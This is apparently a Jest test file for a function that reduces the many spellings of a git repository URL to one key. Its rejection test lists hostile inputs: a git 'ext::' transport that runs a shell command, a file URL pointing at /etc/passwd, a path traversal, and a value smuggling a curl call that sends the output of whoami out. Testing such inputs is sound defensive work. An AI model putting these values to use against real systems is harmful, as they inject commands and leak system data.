import { normalizeRepoUrl, repoName } from './repo-url';

describe('normalizeRepoUrl', () => {
  it('gives every spelling of one repository the same key', () => {
    const spellings = [
      'https://github.com/Acme/Shop.git',
      'https://github.com/acme/shop',
      'https://GitHub.com/acme/shop/',
      'http://github.com/acme/shop.git',
      'ssh://git@github.com/acme/shop.git',
      'ssh://git@github.com:22/acme/shop',
      'git@github.com:acme/shop.git',
      'git@GITHUB.COM:Acme/Shop',
      'git://github.com/acme/shop.git',
      'https://github.com:443/acme/shop.git',
    ];
    for (const s of spellings) expect(normalizeRepoUrl(s)).toBe('github.com/acme/shop');
  });

  it('keeps nested groups (GitLab) and tells repositories apart', () => {
    expect(normalizeRepoUrl('https://gitlab.com/group/sub/app.git')).toBe('gitlab.com/group/sub/app');
    expect(normalizeRepoUrl('https://github.com/acme/shop2')).not.toBe(normalizeRepoUrl('https://github.com/acme/shop'));
    expect(normalizeRepoUrl('https://gitlab.example.com/acme/shop')).not.toBe(normalizeRepoUrl('https://github.com/acme/shop'));
  });

  it('refuses what is not a repository address', () => {
    for (const bad of [
      '',
      'ext::sh -c touch% /tmp/pwned',
      'file:///etc/passwd',
      'https://github.com/',
      'https://github.com/../etc',
      "repo.git';curl x/$(whoami)",
      'a b',
      'x\0y',
      42,
      null,
      'x'.repeat(600),
    ]) {
      expect(normalizeRepoUrl(bad)).toBeNull();
    }
  });

  it('names the repository for the pre-filter', () => {
    expect(repoName('github.com/acme/shop')).toBe('shop');
  });
});
